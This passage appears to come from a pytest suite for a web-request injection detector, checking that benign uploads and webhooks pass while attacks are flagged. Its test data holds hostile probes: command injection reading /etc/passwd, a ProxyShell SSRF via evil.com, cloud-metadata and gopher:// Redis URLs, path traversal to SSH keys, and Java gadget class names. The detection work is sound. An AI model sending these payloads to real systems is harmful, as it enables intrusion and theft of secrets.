    """Marshal in base64 is binary: its bytes are read for the classes a gadget chain
    names, never as text that other rules would find injections in."""
    rng = random.Random(5)
    flagged = []
    for _ in range(300):
        value = base64.b64encode(b"\x04\x08" + rng.randbytes(rng.randint(8, 600))).decode()
        body = json.dumps({"state": value}).encode()
        request = Request("POST", "/", (("Content-Type", "application/json"),), body)
        if engine.scan(request):
            flagged.append(value)
    assert flagged == []


@pytest.mark.parametrize(
    "head",
    [
        b"\x00\x01\x00\x00",  # TrueType
        b"\x00\x00\x01\x00",  # an icon
        b"\x00asm\x01\x00\x00\x00",  # WebAssembly
    ],
)
def test_data_whose_nuls_are_no_ascii_s_is_no_wide_text(engine: Engine, head: bytes) -> None:
    """UTF-16 and UTF-32 are told by the NULs ASCII has in the first bytes; data opens
    with NULs too, and its first characters read so are no text. Read as UTF-16, a font
    was characters at random, which every font uploaded turned into an injection."""
    wide = ";cat /etc/passwd;".encode("utf-16-be")
    headers = (("Content-Type", "application/octet-stream"),)
    assert _types(engine, Request("PUT", "/files/x", headers, head + wide)) == set()
    assert "rce" in _types(engine, Request("PUT", "/files/x", headers, wide))


def test_a_string_table_s_parentheses_before_nuls_end_no_ldap_filter(engine: Engine) -> None:
    """A compiled message catalog, a library's or a program's strings: text separated by
    NULs, many ending in `)`. Only a value's first NUL ends it for C (`admin)%00`), so a
    `)` before a later one truncates no LDAP filter."""
    strings = [
        "Usage: %s [OPTION]... [FILE]...",
        "Print the file's lines (all of them)",
        "  -n, --number  number the lines (default)",
        "invalid option -- '%c'",
        "Report bugs to the project's tracker (see the manual)",
    ]
    catalog = b"\xde\x12\x04\x95\x00\x00\x00\x00" + b"\x00".join(s.encode() for s in strings * 8)
    upload = Request(
        "PUT", "/files/app.mo", (("Content-Type", "application/octet-stream"),), catalog
    )
    assert _types(engine, upload) == set()
    probe = Request("PUT", "/files/app.mo", (("Content-Type", "text/plain"),), b"admin)\x00")
    assert _types(engine, probe) == {"ldapi"}


def test_a_host_after_at_where_a_query_starts(engine: Engine) -> None:
    """Exchange's ProxyShell: the front end appends the query to the back end's URL, and
    `?@evil.com/owa/` makes that host the one asked (its name is a query's own)."""
    target = "/autodiscover/autodiscover.json?@evil.com/owa/&Email=autodiscover/x.json"
    hits = {(hit.type.value, hit.point) for hit in engine.scan(Request("GET", target))}
    assert ("ssrf", "query.@evil.com_owa_.@key") in hits
    assert not engine.scan(Request("GET", "/search?@type=Person&q=x"))
    # Outside the target, a value that starts so is an npm package's scope or a handle's
    # page; a front end's URL with that query in it still counts.
    for value, kinds in (
        ({"dependencies": {"@matteo.collina/tspl": "^0.1.1"}}, set()),
        ({"page": "@jane.doe/notes-on-caching"}, set()),
        ({"url": "/autodiscover/autodiscover.json?@evil.com/owa/"}, {"ssrf"}),
    ):
        body = json.dumps(value).encode()
        assert _types(engine, Request("POST", "/api", JSON, body)) == kinds, value


def test_a_notifications_links_for_people_may_be_internal(engine: Engine) -> None:
    """Grafana's and Alertmanager's alerts link their own pages (`generatorURL`,
    `silenceURL`, `dashboardURL`, `externalURL`; GitHub's `html_url`, GitLab's `web_url`),
    internal by nature: a person's browser opens them. A URL the receiver fetches (`url`,
    `imageURL`), a metadata address or another scheme in one still counts."""
    alert = {
        "externalURL": "http://alertmanager.monitoring.svc:9093",
        "alerts": [
            {
                "generatorURL": "http://localhost:3000/alerting/grafana/abc/view",
                "silenceURL": "http://localhost:3000/alerting/silence/new?matcher=a%3Db",
                "dashboardURL": "http://10.0.3.17:3000/d/xyz",
                "html_url": "http://127.0.0.1:8080/incidents/42",
                "web_url": "http://gitlab.internal/group/app/-/pipelines/7",
            }
        ],
    }

    def types(body: object) -> set[str]:
        request = Request("POST", "/hooks/alerts", JSON, json.dumps(body).encode())
        return _types(engine, request)

    assert types(alert) == set()
    for key, url in (
        ("url", "http://127.0.0.1:8080/x"),
        ("imageURL", "http://localhost:3000/render/d/x.png"),
        ("dashboardURL", "http://169.254.169.254/latest/meta-data/"),
        ("dashboardURL", "gopher://127.0.0.1:6379/_FLUSHALL"),
    ):
        assert types({"alerts": [{key: url}]}) == {"ssrf"}, key


@pytest.mark.parametrize(
    ("path", "content_type", "body", "expected"),
    [
        # A developer's browser on localhost reports what it saw: a CSP violation, a page
        # view to analytics, an error with the request it was on.
        (
            "/csp",
            "application/csp-report",
            {
                "csp-report": {
                    "document-uri": "http://localhost:3000/checkout",
                    "referrer": "http://localhost:3000/",
                    "source-file": "http://127.0.0.1:3000/main.js",
                    "blocked-uri": "inline",
                }
            },
            [],
        ),
        (
            "/batch",
            "application/json",
            {
                "batch": [
                    {
                        "event": "$pageview",
                        "properties": {
                            "$current_url": "http://localhost:3000/dashboard",
                            "$referrer": "http://localhost:3000/login",
                            "$host": "localhost:3000",
                        },
                    },
                    {"type": "page", "context": {"page": {"url": "http://10.0.0.7:8080/cart"}}},
                    {"params": {"page_location": "http://localhost:8080/"}},
                    {"view": {"url": "http://localhost:4200/home"}},
                ]
            },
            [],
        ),
        (
            "/api/1/store/",
            "application/json",
            {"request": {"url": "http://localhost:8000/x", "headers": {"Host": "localhost:8000"}}},
            # What a receiver may fetch stays a forgery: `url`, `request.url`.
            ["post.json.request.url"],
        ),
        # Metadata and other schemes count there too, and so does more than an address.
        (
            "/batch",
            "application/json",
            {
                "page": {"url": "http://169.254.169.254/latest/meta-data/"},
                "$referrer": "gopher://127.0.0.1:25/_HELO",
                "$current_url": "http://localhost:3000/ ; and more",
            },
            ["post.json.page.url", "post.json.$referrer", "post.json.$current_url"],
        ),
    ],
)
def test_the_page_a_browser_reports_being_on_may_be_local(
    engine: Engine, path: str, content_type: str, body: object, expected: list[str]
) -> None:
    request = Request("POST", path, (("Content-Type", content_type),), json.dumps(body).encode())
    assert [h.point for h in engine.scan(request) if h.type.value == "ssrf"] == expected


def test_rich_texts_code_is_markdowns(engine: Engine) -> None:
    """Rich text holds a block of code as HTML's `<pre>` (editors, forums, help centres),
    in Confluence's storage format as a code macro's CDATA body, in BBCode, MediaWiki and
    Org as their own blocks: with prose around it, its commands are the page's examples,
    as in Markdown's fences; `<code>` in a sentence is its inline code. Without prose, or
    outside the block, a command counts."""

    def page(html: str) -> Request:
        body = {"type": "page", "body": {"storage": {"value": html, "representation": "storage"}}}
        return Request("POST", "/wiki/rest/api/content", JSON, json.dumps(body).encode())

    def macro(code: str) -> str:
        return (
            '<ac:structured-macro ac:name="code"><ac:parameter ac:name="language">bash'
            f"</ac:parameter><ac:plain-text-body><![CDATA[{code}]]></ac:plain-text-body>"
            "</ac:structured-macro>"
        )

    def pre(code: str) -> str:
        return f'<pre><code class="language-bash">{code}</code></pre>'

    prose = (
        "<p>When the health check fails after a deploy, restart the proxy on the affected"
        " node and confirm that it answers again before you close the incident. If it still"
        " fails, page the on-call engineer.</p>"
    )
    restart = "sudo systemctl restart nginx && kubectl -n prod rollout restart deploy/api"
    for block in (macro, pre):
        assert _types(engine, page(prose + block(restart))) == set()
        assert _types(engine, page(block(";cat /etc/hostname"))) == {"rce"}
        assert _types(engine, page(prose + "<p>x;cat /etc/hostname</p>" + block("ls"))) == {"rce"}
    inline = (
        prose + "<p>Check the release with <code>cat /etc/os-release | grep VERSION</code>.</p>"
    )
    assert _types(engine, page(inline)) == set()
    # A forum's BBCode, MediaWiki's and Org's blocks.
    for block in (
        f"[code=bash]{restart}[/code]",
        f'<syntaxhighlight lang="bash">\n{restart}\n</syntaxhighlight>',
        f"#+BEGIN_SRC sh\n{restart}\n#+END_SRC",
    ):
        post = Request("POST", "/posts", JSON, json.dumps({"body": prose + block}).encode())
        assert _types(engine, post) == set(), block
    assert _types(engine, page("[code];cat /etc/hostname[/code]")) == {"rce"}
    # An element whose name starts as a code element's does not hold code.
    assert _types(engine, page(prose + "<preview>;cat /etc/hostname</pre>")) == {"rce"}


def test_an_uploaded_files_name_is_no_file_to_fetch(engine: Engine) -> None:
    """A multipart part's file name names what is sent: a dump imported (phpMyAdmin's
    `dump.sql`), a backup restored, a secret imported (`.env`, `id_rsa`); so does a JSON
    body's key naming a file (a gist's). Asked for by a field, the same name is a fetch of
    a backup; a climb, a system path or what a web server reads from the directory a file
    lands in (`web.config`, `.htaccess`) in an upload's name still counts."""

    def upload(name: str) -> Request:
        body = (
            f'--B\r\nContent-Disposition: form-data; name="import_file"; filename="{name}"\r\n'
            "Content-Type: application/octet-stream\r\n\r\nSELECT 1;\r\n--B--\r\n"
        )
        multipart = (("Content-Type", "multipart/form-data; boundary=B"),)
        return Request("POST", "/import.php", multipart, body.encode())

    def keyed(name: str) -> Request:  # a gist's files, keyed by their names
        body = json.dumps({"files": {name: {"content": "SELECT 1;"}}}).encode()
        return Request("POST", "/gists", JSON, body)

    for name in ("dump.sql", "site-backup.zip", "data.json.bak"):
        assert _types(engine, upload(name)) == set(), name
        assert _types(engine, keyed(name)) == set(), name
        asked = Request("POST", "/download", JSON, json.dumps({"filename": name}).encode())
        assert _types(engine, asked) == {"ptrav"}, name
    for request in (upload, keyed):
        assert _types(engine, request("../../dump.sql")) == {"ptrav"}
        assert "ptrav" in _types(engine, request("web.config"))
        assert "ptrav" in _types(engine, request(".htaccess"))
        assert _types(engine, request("/home/ann/.ssh/id_rsa")) == {"ptrav"}
        # A secret's file sent under its own name, with no path: what it is stored as.
        for name in (".env", "id_rsa", ".htpasswd", ".bash_history"):
            assert _types(engine, request(name)) == set(), name


def test_a_files_record_names_the_file_it_describes(engine: Engine) -> None:
    """An attachment in a webhook (Zendesk's, Jira's, Slack's) is a file's record, with its
    media type or digest: its name and its links name a dump or a site's archive that was
    attached, not one asked for. A field with no such record, or a climb, still counts."""
    attachments = [
        {"file_name": "db_export.sql", "content_type": "application/sql", "size": 12345,
         "content_url": "https://x.zendesk.com/attachments/token/a/?name=db_export.sql"},
        {"filename": "site-backup.zip", "mimeType": "application/zip",
         "content": "https://jira.example.com/secure/attachment/10000/site-backup.zip"},
        {"name": "backup_2026.tar.gz", "mimetype": "application/gzip", "sha256": "9f86d0"},
        {"filename": "dump.sql", "type": "text/plain"},
    ]  # fmt: skip
    for attachment in attachments:
        body = json.dumps({"ticket": {"comments": [{"attachments": [attachment]}]}}).encode()
        assert _types(engine, Request("POST", "/hooks/zendesk", JSON, body)) == set()
    for asked in ({"filename": "dump.sql"}, {"file": "db.sql", "files": [{"type": "file"}]}):
        body = json.dumps(asked).encode()
        assert _types(engine, Request("POST", "/download", JSON, body)) == {"ptrav"}
    climb = {"filename": "../../etc/passwd", "mimeType": "text/plain"}
    assert _types(engine, Request("POST", "/download", JSON, json.dumps(climb).encode())) == {
        "ptrav"
    }


def test_a_poms_coordinates_and_xmls_namespaces_name_packages(engine: Engine) -> None:
    """A POM deployed to a repository names its dependencies by Maven's coordinates
    (`<groupId>org.apache.commons</groupId>`), an XML document its namespaces
    (`xmlns="http://www.springframework.org/schema/beans"`): packages, not classes a
    payload makes. A class named to be made still counts."""
    pom = (
        '<project xmlns="http://maven.apache.org/POM/4.0.0"><dependencies><dependency>'
        "<groupId>org.apache.commons</groupId><artifactId>commons-lang3</artifactId>"
        "</dependency></dependencies></project>"
    )
    xml = (("Content-Type", "application/xml"),)
    assert _types(engine, Request("PUT", "/repository/x.pom", xml, pom.encode())) == set()
    beans = '<beans xmlns="http://www.springframework.org/schema/beans"><bean id="a"/></beans>'
    assert _types(engine, Request("POST", "/config", xml, beans.encode())) == set()
    gadget = {"@type": "org.apache.commons.configuration.JNDIConfiguration"}
    assert "rce" in _types(engine, Request("POST", "/a", JSON, json.dumps(gadget).encode()))


def test_a_bill_of_materials_names_packages(engine: Engine) -> None:
    """A software bill of materials uploaded to Dependency-Track names each library by its
    group and its package URL (CycloneDX's `group`, `purl`, `bom-ref`; SPDX's
    `referenceLocator`), as JSON or base64 of it: packages, not classes a payload makes.
    A command after a package URL still counts."""
    purl = "pkg:maven/org.apache.commons/commons-lang3@3.12.0?type=jar"
    component = {"group": "com.sun.activation", "name": "jakarta.activation", "version": "2.0.1"}
    bom = {
        "bomFormat": "CycloneDX",
        "components": [
            {"bom-ref": purl, "group": "org.apache.commons", "name": "commons-lang3", "purl": purl},
            {**component, "purl": "pkg:maven/com.sun.activation/jakarta.activation@2.0.1"},
        ],
    }
    spdx = {
        "spdxVersion": "SPDX-2.3",
        "packages": [{"externalRefs": [{"referenceType": "purl", "referenceLocator": purl}]}],
    }
    encoded = base64.b64encode(json.dumps(bom).encode()).decode()
    for document in (bom, spdx, {"project": "3b1c", "bom": encoded}):
        body = json.dumps(document).encode()
        assert _types(engine, Request("PUT", "/api/v1/bom", JSON, body)) == set()
    probe = json.dumps({"purl": purl + ";id"}).encode()
    assert "rce" in _types(engine, Request("PUT", "/api/v1/bom", JSON, probe))


def test_a_loggers_name_and_a_package_searched_for_are_no_gadgets(engine: Engine) -> None:
    """A logger is named by its package (`{"logger": "org.springframework.web"}`, a
    `loggers` object's keys), and a developer's search looks packages up: no deserialiser
    reads either. A class name given as a value elsewhere still counts."""
    levels = [
        {"logger": "org.springframework.web.servlet.DispatcherServlet", "level": "DEBUG"},
        {"loggers": {"org.springframework.security": "TRACE", "com.sun.jersey": "WARN"}},
    ]
    for level in levels:
        body = json.dumps(level).encode()
        assert _types(engine, Request("POST", "/api/logging", JSON, body)) == set()
    assert _types(engine, Request("GET", "/search?q=org.springframework.web.bind")) == set()
    assert _types(engine, Request("GET", "/api?type=org.apache.commons.io")) == {"rce"}


def test_a_jsf_forms_own_parameters_are_no_java_classes(engine: Engine) -> None:
    """Every form of a JavaServer Faces application posts `javax.faces.ViewState`, and its
    AJAX requests `javax.faces.partial.ajax`, `javax.faces.source`, and a portal's
    `javax.portlet.action`: the frameworks' parameters, not classes a gadget chain names.
    Another `javax.` class counts, named or as a parameter."""
    form = urlencode(
        {
            "javax.faces.partial.ajax": "true",
            "javax.faces.source": "order:save",
            "javax.faces.partial.execute": "order",
            "javax.faces.partial.render": "order:messages",
            "javax.faces.behavior.event": "action",
            "order:name": "O'Brien",
            "javax.faces.ViewState": "-3420975214929486316:-4567285371384520121",
        }
    ).encode()
    assert _types(engine, Request("POST", "/order.xhtml", FORM, form)) == set()
    portal = "/web/guest?javax.portlet.action=%2Flogin&p_p_id=com_liferay_login_LoginPortlet"
    assert _types(engine, Request("GET", portal)) == set()
    gadget = urlencode({"javax.naming.InitialContext": "x"}).encode()
    assert _types(engine, Request("POST", "/order.xhtml", FORM, gadget)) == {"rce"}
    found = _types(engine, Request("GET", "/?c=javax.management.remote.rmi.RMIConnector"))
    assert found == {"rce"}
